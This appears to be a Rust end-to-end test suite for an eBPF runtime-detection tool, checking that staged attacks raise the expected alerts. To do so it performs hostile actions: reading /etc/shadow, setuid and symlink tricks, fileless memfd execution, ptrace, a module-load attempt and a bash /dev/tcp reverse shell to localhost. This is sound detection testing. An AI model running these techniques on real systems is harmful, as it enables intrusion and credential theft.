//! End-to-end live detection (needs root: it loads the eBPF sensor). Real processes do real things; `mamoru run`
//! with the bundled rules must raise the expected alerts with the right fields. Without root or BPF these tests
//! fail with the sensor's message naming what is missing; they never pass quietly.

use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

const MAMORU: &str = env!("CARGO_BIN_EXE_mamoru");

/// A running `mamoru run` (or `capture`), with its stdout collected and its stderr watched for readiness.
struct Agent {
    child: Child,
    stdout: thread::JoinHandle<String>,
    stderr: mpsc::Receiver<String>,
}

impl Agent {
    fn start(args: &[&str], ready_marker: &str) -> Agent {
        assert_eq!(
            unsafe_free_euid(),
            0,
            "live detection tests need root (CAP_BPF, CAP_PERFMON); CI runs them as root"
        );
        let mut child = Command::new(MAMORU)
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn mamoru");
        let mut out = child.stdout.take().expect("stdout");
        let stdout = thread::spawn(move || {
            let mut s = String::new();
            out.read_to_string(&mut s).ok();
            s
        });
        let err = child.stderr.take().expect("stderr");
        let (tx, rx) = mpsc::channel();
        thread::spawn(move || {
            for line in BufReader::new(err).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let agent = Agent {
            child,
            stdout,
            stderr: rx,
        };
        agent.wait_for(ready_marker, Duration::from_secs(120));
        agent
    }

    fn wait_for(&self, marker: &str, timeout: Duration) -> Vec<String> {
        let deadline = Instant::now() + timeout;
        let mut seen = Vec::new();
        while Instant::now() < deadline {
            match self.stderr.recv_timeout(Duration::from_millis(200)) {
                Ok(line) => {
                    let hit = line.contains(marker);
                    seen.push(line);
                    if hit {
                        return seen;
                    }
                }
                Err(mpsc::RecvTimeoutError::Timeout) => {}
                Err(mpsc::RecvTimeoutError::Disconnected) => break,
            }
        }
        panic!(
            "mamoru did not print '{marker}' in time; stderr so far:\n{}",
            seen.join("\n")
        );
    }

    /// Stops with SIGINT (as a user's Ctrl-C) and returns (stdout, the rest of stderr).
    fn stop(mut self) -> (String, String) {
        // Give the reader one poll period to drain what the kernel already has.
        thread::sleep(Duration::from_millis(1500));
        let pid = self.child.id().to_string();
        Command::new("kill").args(["-INT", &pid]).status().expect("kill");
        let status = self.child.wait().expect("wait");
        let out = self.stdout.join().expect("stdout thread");
        let mut err = Vec::new();
        while let Ok(l) = self.stderr.recv_timeout(Duration::from_millis(500)) {
            err.push(l);
        }
        assert!(
            status.success(),
            "mamoru exited with {status}; stderr:\n{}",
            err.join("\n")
        );
        (out, err.join("\n"))
    }
}

/// The effective uid, read from /proc (no FFI needed).
fn unsafe_free_euid() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").expect("status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .and_then(|v| v.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .expect("euid")
}

fn alerts(stdout: &str) -> Vec<Value> {
    stdout
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).expect("alert is JSON"))
        .collect()
}

fn field<'a>(alert: &'a Value, name: &str) -> &'a Value {
    &alert["output_fields"][name]
}

/// The first alert of `rule` whose output contains `needle`.
fn find<'a>(alerts: &'a [Value], rule: &str, needle: &str) -> &'a Value {
    alerts
        .iter()
        .find(|a| a["rule"] == rule && a["output"].as_str().is_some_and(|o| o.contains(needle)))
        .unwrap_or_else(|| {
            let rules: Vec<String> = alerts
                .iter()
                .map(|a| format!("{} | {}", a["rule"], a["output"].as_str().unwrap_or("")))
                .collect();
            panic!("no '{rule}' alert mentioning '{needle}'; got:\n{}", rules.join("\n"))
        })
}

fn run(cmd: &str, args: &[&str]) -> std::process::Output {
    Command::new(cmd)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{cmd}: {e}"))
}

fn scratch_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("mamoru-e2e-{tag}-{}", std::process::id()));
    std::fs::create_dir_all(&d).expect("scratch dir");
    d
}

/// Every attack the issue lists, done for real while one `mamoru run` watches.
fn do_attacks(marker: &str, dir: &Path) {
    // An untrusted program reads /etc/shadow.
    assert!(run("cat", &["/etc/shadow"]).status.success());
    // Writes below /etc and below a binary directory.
    let etc_file = format!("/etc/{marker}.conf");
    let bin_file = format!("/usr/local/bin/{marker}");
    std::fs::write(&etc_file, "x").expect("write below /etc");
    assert!(run("touch", &[&bin_file]).status.success());
    let _ = std::fs::remove_file(&etc_file);
    let _ = std::fs::remove_file(&bin_file);
    // A setuid file.
    let suid = dir.join("suid-bin");
    std::fs::write(&suid, "#!/bin/sh\n").expect("suid file");
    assert!(run("chmod", &["4755", suid.to_str().expect("utf8")]).status.success());
    // A symlink over /etc/shadow.
    let link = dir.join("shadow-link");
    assert!(run("ln", &["-sf", "/etc/shadow", link.to_str().expect("utf8")])
        .status
        .success());
    // Fileless execution: memfd_create, then exec of the memfd (execveat with AT_EMPTY_PATH through fexecve).
    let memfd = run(
        "python3",
        &[
            "-c",
            "import os; fd = os.memfd_create('payload'); os.write(fd, open('/bin/true', 'rb').read()); \
             os.execve(fd, ['memfd-payload'], {})",
        ],
    );
    assert!(
        memfd.status.success(),
        "memfd exec: {}",
        String::from_utf8_lossy(&memfd.stderr)
    );
    // A ptrace attach, and an init_module attempt with a bogus image (refused by the kernel; the attempt counts).
    let py = run(
        "python3",
        &[
            "-c",
            "import ctypes, subprocess\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             p = subprocess.Popen(['sleep', '10'])\n\
             assert libc.ptrace(16, p.pid, 0, 0) == 0\n\
             libc.ptrace(17, p.pid, 0, 0)\n\
             p.kill()\n\
             image = ctypes.create_string_buffer(b'\\x7fELF-not-a-module' * 8)\n\
             assert libc.syscall(175, image, len(image), b'') == -1\n",
        ],
    );
    assert!(
        py.status.success(),
        "ptrace/init_module: {}",
        String::from_utf8_lossy(&py.stderr)
    );
    // A reverse shell: bash with stdin/stdout on a TCP socket to 127.0.0.1.
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let shell = Command::new("bash")
        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("reverse shell");
    let (mut conn, _) = listener.accept().expect("accept");
    conn.write_all(b"exit\n").expect("send exit");
    let mut shell = shell;
    let _ = shell.wait();
}

#[test]
fn live_run_raises_the_expected_alerts_with_their_fields() {
    let marker = format!("mamoru-e2e-{}", std::process::id());
    let dir = scratch_dir("live");
    let agent = Agent::start(&["run", "--format", "json", "-o", "rule_matching=all"], "watching");
    do_attacks(&marker, &dir);
    let (stdout, stderr) = agent.stop();
    let alerts = alerts(&stdout);
    assert!(stderr.contains("stopped."), "no summary on stop: {stderr}");
    assert!(stderr.contains("dropped"), "summary lacks drop counts: {stderr}");

    let a = find(&alerts, "Read sensitive file untrusted", "/etc/shadow");
    assert_eq!(field(a, "fd.name"), "/etc/shadow");
    assert_eq!(field(a, "proc.name"), "cat");
    assert_eq!(field(a, "proc.cmdline"), "cat /etc/shadow");
    assert_eq!(field(a, "user.name"), "root");
    assert_eq!(a["priority"], "Warning");
    assert_eq!(a["source"], "syscall");

    let a = find(&alerts, "Write below etc", &marker);
    assert_eq!(field(a, "fd.name"), format!("/etc/{marker}.conf").as_str());
    assert_eq!(field(a, "container.id"), "host");

    let a = find(&alerts, "Write below binary dir", &marker);
    assert_eq!(field(a, "fd.name"), format!("/usr/local/bin/{marker}").as_str());
    assert_eq!(field(a, "proc.name"), "touch");

    let a = find(&alerts, "Set setuid or setgid bit", "suid-bin");
    assert!(
        field(a, "evt.arg.mode").as_str().is_some_and(|m| m.contains("S_ISUID")),
        "{a}"
    );
    assert_eq!(field(a, "proc.name"), "chmod");

    let a = find(&alerts, "Create Symlink Over Sensitive Files", "shadow-link");
    assert_eq!(field(a, "evt.arg.target"), "/etc/shadow");

    let a = find(&alerts, "Fileless execution via memfd_create", "memfd");
    assert!(
        field(a, "evt.arg.flags")
            .as_str()
            .is_some_and(|f| f.contains("EXE_FROM_MEMFD")),
        "{a}"
    );

    let a = find(&alerts, "PTRACE attached to process", "PTRACE");
    assert_eq!(field(a, "evt.type"), "ptrace");
    assert_eq!(field(a, "proc.name"), "python3");

    let a = find(&alerts, "Linux Kernel Module Load Attempt on Host", "init_module");
    assert_eq!(field(a, "evt.type"), "init_module");
    assert!(
        field(a, "evt.res").as_str().is_some_and(|r| r.starts_with('E')),
        "the refused attempt: {a}"
    );

    let a = find(
        &alerts,
        "Redirect STDOUT/STDIN to Network Connection on Host",
        "127.0.0.1",
    );
    assert_eq!(field(a, "fd.type"), "ipv4");
    assert_eq!(field(a, "fd.l4proto"), "tcp");
    assert_eq!(field(a, "proc.name"), "bash");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_capture_replays_to_the_alerts_the_live_run_gave() {
    let marker = format!("mamoru-cap-{}", std::process::id());
    let dir = scratch_dir("capture");
    let cap = dir.join("live.scap");
    let live = Agent::start(&["run", "--format", "json"], "watching");
    let capture = Agent::start(&["capture", "-w", cap.to_str().expect("utf8")], "recording");
    // Attacks whose alerts carry the marker.
    let target = dir.join(format!("{marker}.txt"));
    std::fs::write(&target, "x").expect("file");
    assert!(
        run("ln", &["-sf", "/etc/shadow", dir.join(&marker).to_str().expect("utf8")])
            .status
            .success()
    );
    assert!(run("cat", &["/etc/shadow", target.to_str().expect("utf8")])
        .status
        .success());
    std::fs::write(format!("/etc/{marker}.conf"), "x").expect("etc write");
    let _ = std::fs::remove_file(format!("/etc/{marker}.conf"));
    let (cap_out, cap_err) = capture.stop();
    let (live_out, _) = live.stop();
    assert!(cap_out.is_empty(), "capture prints nothing on stdout");
    assert!(cap_err.contains("wrote"), "{cap_err}");

    let replay = Command::new(MAMORU)
        .args(["replay", "--format", "json"])
        .arg(&cap)
        .output()
        .expect("replay");
    assert!(replay.status.success(), "{}", String::from_utf8_lossy(&replay.stderr));
    let strip = |alerts: Vec<Value>| -> Vec<(String, String)> {
        let mut v: Vec<(String, String)> = alerts
            .into_iter()
            .filter(|a| {
                a["output"]
                    .as_str()
                    .is_some_and(|o| o.contains(&marker) || o.contains("cat /etc/shadow"))
            })
            .map(|a| {
                let out = a["output"].as_str().unwrap_or_default();
                // Drop the time prefix: the same event has the same time in both, but keep the test about content.
                let body = out.split_once(": ").map_or(out, |(_, b)| b).to_string();
                (a["rule"].as_str().unwrap_or_default().to_string(), body)
            })
            .collect();
        v.sort();
        v
    };
    let live_alerts = strip(alerts(&live_out));
    let replay_alerts = strip(alerts(&String::from_utf8_lossy(&replay.stdout)));
    assert!(live_alerts.len() >= 3, "live run missed the attacks: {live_alerts:#?}");
    assert_eq!(
        live_alerts, replay_alerts,
        "replaying the capture must give the live run's alerts"
    );

    // sysdig reads mamoru's capture and selects the same events for a filter as mamoru does.
    let filter = format!("evt.type in (open, openat) and fd.name contains {marker}");
    let ours: Vec<(u64, u64)> = mamoru_cli::filter::select_events(&cap, &filter)
        .expect("mamoru filter")
        .into_iter()
        .map(|k| (k.ts, k.tid))
        .collect();
    let out = run(
        "sysdig",
        &[
            "-r",
            cap.to_str().expect("utf8"),
            "-p",
            "%evt.rawtime %thread.tid %evt.dir",
            &filter,
        ],
    );
    assert!(
        out.status.success(),
        "sysdig -r failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let theirs: Vec<(u64, u64)> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| {
            let p: Vec<&str> = l.split_whitespace().collect();
            (p.len() == 3 && p[2] == "<")
                .then(|| (p[0].parse().ok(), p[1].parse().ok()))
                .and_then(|(a, b)| Some((a?, b?)))
        })
        .collect();
    assert!(!ours.is_empty(), "the capture holds the marked opens");
    assert_eq!(
        ours, theirs,
        "mamoru and sysdig select the same events of mamoru's capture"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn drops_are_counted_and_reported_never_silent() {
    // A one-page ring buffer and a syscall storm while the agent is busy: events are lost, and mamoru says so.
    let agent = Agent::start(&["run", "--format", "json", "--ring-buffer-bytes", "4096"], "watching");
    let storm = run(
        "python3",
        &[
            "-c",
            "import os\nfor _ in range(300000):\n    os.close(os.open('/etc/hostname', os.O_RDONLY))\n",
        ],
    );
    assert!(storm.status.success());
    thread::sleep(Duration::from_millis(1500));
    let (stdout, stderr) = agent.stop();
    let notices: Vec<Value> = alerts(&stdout)
        .into_iter()
        .filter(|a| a["rule"] == "mamoru internal: syscall event drop")
        .collect();
    assert!(!notices.is_empty(), "no drop notice; stderr: {stderr}");
    assert!(field(&notices[0], "n_drops").as_u64().is_some_and(|n| n > 0));
    let summary_drops: u64 = stderr
        .split("dropped ")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .expect("summary reports drops");
    assert!(summary_drops > 0, "summary: {stderr}");
}

#[test]
fn without_the_capabilities_run_says_what_is_missing() {
    assert_eq!(
        unsafe_free_euid(),
        0,
        "this test drops root's privileges with setpriv, so it must start as root"
    );
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
            MAMORU,
            "run",
            "--duration",
            "1",
        ])
        .output()
        .expect("setpriv (util-linux)");
    assert!(!out.status.success(), "run must fail without BPF rights");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("CAP_BPF") && err.contains("CAP_PERFMON"),
        "message names the missing capabilities: {err}"
    );
    assert!(err.contains("kernel"), "message names the kernel: {err}");
}

/// One `mamoru run` evaluates the kernel's events and the cloud sources of its config file together: a Kubernetes
/// audit log it tails and a CloudTrail directory it watches fire their plugin rules while a real process fires a
/// syscall rule, each alert with its own source.
#[test]
fn one_run_watches_the_kernel_and_the_cloud_sources_together() {
    let dir = scratch_dir("sources");
    let audit_log = dir.join("audit.log");
    let trail_dir = dir.join("trail");
    std::fs::create_dir_all(&trail_dir).expect("trail dir");
    std::fs::write(&audit_log, "").expect("audit log");
    let config = dir.join("mamoru.yaml");
    std::fs::write(
        &config,
        format!(
            "sources:\n  state_dir: {state}\n  k8s_audit:\n    tail:\n      - path: {log}\n        poll_interval_ms: 100\n  \
             aws_cloudtrail:\n    directory: {{path: {trail}, poll_interval_s: 1}}\n",
            state = dir.join("state").display(),
            log = audit_log.display(),
            trail = trail_dir.display(),
        ),
    )
    .expect("config");
    let agent = Agent::start(
        &["run", "-c", config.to_str().expect("utf8"), "--format", "json"],
        "watching",
    );

    // The API server appends one audit event per line.
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data");
    let event_list: Value =
        serde_json::from_slice(&std::fs::read(data.join("k8s_audit_eventlist.json")).expect("fixture")).expect("json");
    let mut lines = String::new();
    for item in event_list["items"].as_array().expect("items") {
        lines.push_str(&item.to_string());
        lines.push('\n');
    }
    std::fs::OpenOptions::new()
        .append(true)
        .open(&audit_log)
        .and_then(|mut f| f.write_all(lines.as_bytes()))
        .expect("append audit events");
    // CloudTrail delivers complete files; move one in by rename, as the docs ask.
    let staged = dir.join("staged.json");
    std::fs::copy(data.join("cloudtrail_records.json"), &staged).expect("stage trail file");
    std::fs::rename(
        &staged,
        trail_dir.join("123456789012_CloudTrail_eu-west-1_20240514T0910Z_Ab12Cd34Ef56Gh78.json"),
    )
    .expect("deliver trail file");
    // And the kernel side: an untrusted program reads /etc/shadow.
    assert!(run("cat", &["/etc/shadow"]).status.success());

    // Wait for both inputs to have been polled at least twice before stopping.
    thread::sleep(Duration::from_secs(3));
    let (stdout, stderr) = agent.stop();
    let alerts = alerts(&stdout);
    let by_source = |source: &str| -> Vec<String> {
        alerts
            .iter()
            .filter(|a| a["source"] == source)
            .map(|a| a["rule"].as_str().unwrap_or_default().to_string())
            .collect()
    };
    let syscall = by_source("syscall");
    assert!(
        syscall.iter().any(|r| r == "Read sensitive file untrusted"),
        "syscall alerts: {syscall:?}\n{stderr}"
    );
    let k8s = by_source("k8s_audit");
    for rule in ["Create Privileged Pod", "Attach/Exec Pod", "Anonymous Request Allowed"] {
        assert!(
            k8s.iter().any(|r| r == rule),
            "no '{rule}' in k8s_audit alerts {k8s:?}\n{stderr}"
        );
    }
    let trail = by_source("aws_cloudtrail");
    for rule in [
        "Console Login Without MFA",
        "CloudTrail Logging Disabled",
        "Delete Bucket Encryption",
    ] {
        assert!(
            trail.iter().any(|r| r == rule),
            "no '{rule}' in aws_cloudtrail alerts {trail:?}\n{stderr}"
        );
    }
    let stop = find(&alerts, "CloudTrail Logging Disabled", "");
    assert_eq!(field(stop, "ct.user"), "mallory");
    assert_eq!(field(stop, "ct.region"), "eu-west-1");
    assert!(
        stderr.contains("sources:"),
        "the summary counts the source records: {stderr}"
    );
}
